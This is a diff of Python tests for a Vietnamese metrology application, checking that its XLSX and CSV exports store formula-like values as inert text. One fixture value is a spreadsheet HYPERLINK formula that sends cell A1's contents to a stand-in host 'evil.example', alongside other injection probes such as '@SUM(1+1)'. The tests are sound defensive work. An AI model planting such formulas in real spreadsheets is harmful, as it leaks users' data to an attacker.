@@ -42,10 +42,12 @@ def test_the_instruments_xlsx_opens_and_writes_formulas_as_text(client, business
         "Cột đo xăng dầu",
         "P-1",
         "Tatsuno",
-        '\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+        '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
     ]
-    assert row[6] == "'+84 258 1234"
+    assert row[6] == "+84 258 1234"
+    # Shown as typed, stored as text: a string cell with Excel's quote prefix, never a formula.
     assert all(cell.data_type == "s" for cell in sheet[2] if cell.value)
+    assert [sheet[2][3].quotePrefix, sheet[2][6].quotePrefix] == [True, True]
 
 
 def test_the_instruments_csv_escapes_formulas(client, business_user, poisoned):
@@ -80,4 +82,14 @@ def test_rejected_rows_come_back_inert_in_xlsx(client, business_user, business):
         "attachment; filename*=utf-8''a%22b%0Ac-dong-bi-tu-choi.xlsx"
     )
     sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
-    assert [c.value for c in sheet[2]] == ["'@SUM(1+1)", "S1", "Thiếu xã, phường"]
+    assert [c.value for c in sheet[2]] == ["@SUM(1+1)", "S1", "Thiếu xã, phường"]
+    assert (sheet[2][0].data_type, sheet[2][0].quotePrefix) == ("s", True)
+
+
+def test_a_rejected_rows_csv_reads_back_as_typed():
+    from tdc.metrology.imports.reading import clean_cell
+    from tdc.reports.cells import safe_csv_cell
+
+    typed = ["=HYPERLINK(1)", "+84 258 1234", "'quoted", "KH-0001"]
+
+    assert [clean_cell(safe_csv_cell(t)) for t in typed] == typed
